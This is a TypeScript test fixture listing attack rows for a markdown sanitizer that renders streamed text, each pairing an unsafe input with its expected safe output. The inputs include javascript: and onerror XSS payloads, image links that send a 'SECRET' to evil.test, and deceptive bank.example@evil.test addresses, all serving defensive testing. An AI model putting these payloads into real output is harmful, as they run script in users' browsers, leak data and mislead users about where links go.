import { rowsOf, type AttackRow } from '../row.js'

/** Texts that are dangerous while they grow: what stands there changes its meaning with what follows. */
export const streaming: readonly AttackRow[] = rowsOf('streaming', [
  {
    name: 'a bare address is pressed only when it has ended',
    unsafe: 'https://good.test.evil.test/ a',
    safe: 'https://good.test.evil.test/ a',
  },
  {
    name: 'a bare address that turns into a name is pressed as the host',
    unsafe: 'https://bank.example@evil.test/ a',
    safe: 'https://bank.example@evil.test/ (evil.test) a',
  },
  {
    name: 'a bare address with a port that turns into a name is pressed as the host',
    unsafe: 'https://bank.example:443@evil.test/ a',
    safe: 'https://bank.example:443@evil.test/ (evil.test) a',
  },
  {
    name: 'an address of www is pressed only when it has ended',
    unsafe: 'www.good.test.evil.test a',
    safe: 'www.good.test.evil.test a',
  },
  {
    name: 'a mail address is pressed only when it has ended',
    unsafe: 'a@good.test.evil.test b',
    safe: 'a@good.test.evil.test b',
  },
  {
    name: 'an address in angle brackets is pressed only when they close',
    unsafe: '<https://good.test.evil.test/> a',
    safe: 'https://good.test.evil.test/ a',
  },
  {
    name: 'an inline address is pressed only when it closes',
    unsafe: '[a](https://good.test.evil.test/) b',
    safe: 'a b',
  },
  {
    name: 'an inline address with a title is pressed only when it closes',
    unsafe: '[a](https://good.test.evil.test/ "b") c',
    safe: 'a c',
  },
  {
    name: 'an inline address with brackets is pressed only when it closes',
    unsafe: '[a](https://good.test/(b)c) d',
    safe: 'a d',
  },
  {
    name: 'an inline address with an escape at a cut is pressed only when it closes',
    unsafe: '[a](https://good.test/\\)b) c',
    safe: 'a c',
  },
  {
    name: 'a definition is pressed only when its line ends',
    unsafe: '[a]\n\n[a]: https://good.test.evil.test/\n\nb',
    safe: 'a b',
  },
  {
    name: 'a definition with a late title is pressed when its address is settled',
    unsafe: '[a]\n\n[a]: https://good.test/\n"b"\n\nc',
    safe: 'a c',
  },
  {
    name: 'a definition whose title breaks is a link still',
    unsafe: '[a]\n\n[a]: https://good.test/\n"b" c',
    safe: 'a "b" c',
  },
  {
    name: 'a definition whose title breaks on its line is none',
    unsafe: '[a]\n\n[a]: https://good.test/ "b" c\n\nd',
    safe: '[a] [a]: https://good.test/ "b" c d',
  },
  {
    name: 'a shortcut that becomes an inline link is the inline one',
    unsafe: '[a]: https://good.test/\n\n[a](https://evil.test/) b',
    safe: 'a b',
  },
  {
    name: 'a shortcut that becomes a full reference is the full one',
    unsafe: '[a]: https://good.test/\n[b]: https://evil.test/\n\n[a][b] c',
    safe: 'a c',
  },
  {
    name: 'words that become a link’s words ask for the link’s host',
    unsafe: '[https://bank.example ](https://evil.test/) a',
    safe: 'https://bank.example (evil.test) a',
  },
  {
    name: 'an address that becomes a link’s words is the link',
    unsafe: '[see https://bank.example now](https://evil.test/) a',
    safe: 'see https://bank.example now (evil.test) a',
  },
  {
    name: 'a link inside brackets that become a link is the inner one',
    unsafe: '[a [b](https://good.test/) c](https://evil.test/) d',
    safe: '[a b c](https://evil.test/) d',
  },
  {
    name: 'a link behind a backtick becomes code',
    unsafe: '`[a](https://evil.test/) b` c',
    safe: '[a](https://evil.test/) b c',
  },
  {
    name: 'an address behind a backtick becomes code',
    unsafe: '`https://evil.test/ a` b',
    safe: 'https://evil.test/ a b',
  },
  {
    name: 'an image behind a backtick becomes code',
    unsafe: '`![a](https://evil.test/) b` c',
    safe: '![a](https://evil.test/) b c',
  },
  {
    name: 'a link behind an open tag becomes its attribute',
    unsafe: 'a <b title="[c](https://evil.test/)"> d',
    safe: 'a <b title="[c](https://evil.test/)"> d',
  },
  {
    name: 'a link behind an open comment is gone',
    unsafe: 'a <!-- [b](https://evil.test/) --> c',
    safe: 'a c',
  },
  {
    name: 'a link behind an open CDATA is shown as written',
    unsafe: 'a <![CDATA[ [b](https://evil.test/) ]]> c',
    safe: 'a <![CDATA[ [b](https://evil.test/) ]]> c',
  },
  {
    name: 'a fence that closes late is code until then',
    unsafe: '```\n![a](https://evil.test/)\n```\n\n![b](https://evil.test/)',
    safe: '![a](https://evil.test/) b (evil.test)',
  },
  {
    name: 'a fence inside a longer one is code',
    unsafe: '````\n```\n[a](https://evil.test/)\n```\n````',
    safe: '``` [a](https://evil.test/) ```',
  },
  {
    name: 'a fence that becomes inline code keeps its link as code',
    unsafe: '```a [b](https://evil.test/)``` c',
    safe: 'a [b](https://evil.test/) c',
  },
  {
    name: 'an image’s late definition loads nothing',
    unsafe: '![a][r] b\n\nc\n\n[r]: https://evil.test/?q=SECRET\n',
    safe: 'a (evil.test) b c',
  },
  {
    name: 'a later definition changes nothing',
    unsafe: '[r]: https://one.test/\n\n[a][r] b\n\n[r]: https://two.test/\n\nc',
    safe: 'a b c',
  },
  {
    name: 'a definition that waits for its address is none',
    unsafe: '[a]\n\n[a]:\n\nhttps://evil.test/ b',
    safe: '[a] [a]: https://evil.test/ b',
  },
  { name: 'words that become a heading stay', unsafe: '[a](https://good.test/)\n===', safe: 'a' },
  {
    name: 'words that become a table stay',
    unsafe: '| [a](https://good.test/) |\n|-|\n| b |',
    safe: 'a b',
  },
  {
    name: 'a delimiter row that breaks leaves the words',
    unsafe: '| [a](https://good.test/) |\n|-|-|-\n\nb',
    safe: '| a | |-|-|- b',
  },
  { name: 'a list that becomes a rule stays', unsafe: '- - -a', safe: '-a' },
  {
    name: 'an entity split at a cut is one character',
    unsafe: '[a](&#106;avascript:alert(1)) b',
    safe: 'a b',
  },
  {
    name: 'a scheme split at a cut runs nothing',
    unsafe: '[a](javascript:alert(1)) b',
    safe: 'a b',
  },
  {
    name: 'a scheme that begins well runs nothing',
    unsafe: '[a](http-equiv:alert(1)) b',
    safe: 'a b',
  },
  { name: 'an address that begins as a path is its words', unsafe: '[a](/b) c', safe: 'a c' },
  {
    name: 'an address that begins as a fragment stays in the message',
    unsafe: '[a](#b) c',
    safe: 'a c',
  },
  {
    name: 'an escaped bracket at a cut opens no link',
    unsafe: '\\[a](https://evil.test/) b',
    safe: '[a](https://evil.test/) b',
  },
  {
    name: 'an escaped bang at a cut opens a link',
    unsafe: '\\![a](https://good.test/) b',
    safe: '!a b',
  },
  {
    name: 'a tag split at a cut is shown',
    unsafe: '<img src=x onerror=alert(1)> a',
    safe: '<img src=x onerror=alert(1)> a',
  },
  {
    name: 'a tag over several lines is shown',
    unsafe: '<img\nsrc=x\nonerror=alert(1)>\n\na',
    safe: '<img src=x onerror=alert(1)> a',
  },
  {
    name: 'a subset tag that turns out to have attributes is shown',
    unsafe: '<b onclick=alert(1)>a</b> c',
    safe: '<b onclick=alert(1)>a</b> c',
  },
  {
    name: 'a subset tag that turns into another is shown',
    unsafe: '<su>a</su>',
    safe: '<su>a</su>',
  },
  {
    name: 'details that never close keep their words',
    unsafe: '<details>\n\na\n\nb',
    safe: '<details> a b',
  },
  {
    name: 'a pair of surrogates split at a cut is one character',
    unsafe: 'a\u{1f4a9}b',
    safe: 'a\u{1f4a9}b',
  },
  {
    name: 'a tag character split at a cut is marked',
    unsafe: 'a \u{e0041} b',
    safe: 'a U+E0041 b',
  },
  {
    name: 'a carriage return split from its line feed is one line ending',
    unsafe: 'a\r\nb\r\n\r\n[r]: https://good.test/\r\n\r\n[r]',
    safe: 'a b r',
  },
  {
    name: 'emphasis that closes late keeps the words',
    unsafe: '**a [b](https://good.test/) *c** d',
    safe: '*a b c d',
  },
  {
    name: 'a footnote defined late is a footnote',
    unsafe: 'a[^1] b\n\nc\n\n[^1]: [d](https://good.test/)',
    safe: 'a1 b c Footnotes d ↩',
  },
  {
    name: 'a footnote that becomes a link’s label is none',
    unsafe: '[^1](https://good.test/) a',
    safe: '^1 a',
  },
  { name: 'a task that becomes a link is a link', unsafe: '- [x](https://good.test/)', safe: 'x' },
  {
    name: 'a number that becomes a list stays',
    unsafe: 'a\n1. [b](https://good.test/)',
    safe: 'a b',
  },
  {
    name: 'a cut inside a link leaves its words',
    unsafe: 'see [a](https://good.test/very/lo',
    safe: 'see [a](https://good.test/very/lo',
  },
  {
    name: 'a cut inside an image leaves its words',
    unsafe: 'see ![a](https://evil.test/?q=SEC',
    safe: 'see ![a](https://evil.test/?q=SEC',
  },
  { name: 'a cut inside a fence leaves the code', unsafe: '```js\nlet a = 1', safe: 'let a = 1' },
  {
    name: 'a cut inside a tag leaves it as text',
    unsafe: 'a <img src="https://evil.test/',
    safe: 'a <img src="https://evil.test/',
  },
  {
    name: 'a cut inside a definition leaves it as a link',
    unsafe: '[a]\n\n[a]: https://good.te',
    safe: 'a',
  },
  {
    name: 'an address in what looks like a row is pressed only when it has ended',
    unsafe: '|https://bank.example/a|b c',
    safe: '|https://bank.example/a|b c',
  },
  {
    name: 'a mail address in what looks like a row is pressed only when it has ended',
    unsafe: '| a@bank.example|.evil.test',
    safe: '| a@bank.example|.evil.test',
  },
  {
    name: 'an address and an entity of a blank are pressed only when they have ended',
    unsafe: 'https://bank.example/a&Tab;b',
    safe: 'https://bank.example/a&Tab;b',
  },
  {
    name: 'a host and an entity of a blank are pressed only when they have ended',
    unsafe: 'https://bank.example&Tab;.evil.test b',
    safe: 'https://bank.example&Tab;.evil.test (bank.example&tab;.evil.test) b',
  },
  {
    name: 'an address above what looks like a fence becomes code',
    unsafe: '`https://bank.example/a\n```b`',
    safe: 'https://bank.example/a ```b',
  },
  {
    name: 'an address above what looks like a rule stays',
    unsafe: 'https://bank.example/a b\n***c',
    safe: 'https://bank.example/a b ***c',
  },
  {
    name: 'an address above what looks like a list stays',
    unsafe: '`https://bank.example/a\n- b`',
    safe: '`https://bank.example/a b`',
  },
  {
    name: 'an address above what looks like a heading becomes code',
    unsafe: '`https://bank.example/a\n#b`',
    safe: 'https://bank.example/a #b',
  },
  {
    name: 'an address above what looks like a quote stays',
    unsafe: '`https://bank.example/a\n> b`',
    safe: '`https://bank.example/a b`',
  },
  {
    name: 'an address above what looks like a number becomes code',
    unsafe: '`https://bank.example/a\n1.b`',
    safe: 'https://bank.example/a 1.b',
  },
  {
    name: 'an address above what looks like HTML becomes code',
    unsafe: '`https://bank.example/a\n<divx>`',
    safe: 'https://bank.example/a <divx>',
  },
  {
    name: 'an address above dashes that go on becomes code',
    unsafe: '`https://bank.example/a\n--b`',
    safe: 'https://bank.example/a --b',
  },
  {
    name: 'an address above a star that goes on becomes code',
    unsafe: '`https://bank.example/a\n*b`',
    safe: 'https://bank.example/a *b',
  },
  {
    name: 'two links side by side stay two',
    unsafe: '[a](https://one.test/)[b](https://two.test/) c',
    safe: 'ab c',
  },
  {
    name: 'an address and a closing bracket stay apart',
    unsafe: '(https://good.test/a) b',
    safe: '(https://good.test/a) b',
  },
  {
    name: 'an address and its full stop stay apart',
    unsafe: 'https://good.test/a. b',
    safe: 'https://good.test/a. b',
  },
  {
    name: 'an address and an entity behind it stay apart',
    unsafe: 'https://good.test/a&amp; b',
    safe: 'https://good.test/a& b',
  },
  {
    name: 'an address with stars around it is one',
    unsafe: '**https://good.test/a** b',
    safe: 'https://good.test/a b',
  },
  {
    name: 'an address that becomes struck is one',
    unsafe: '~~https://good.test/a~~ b',
    safe: 'https://good.test/a b',
  },
])
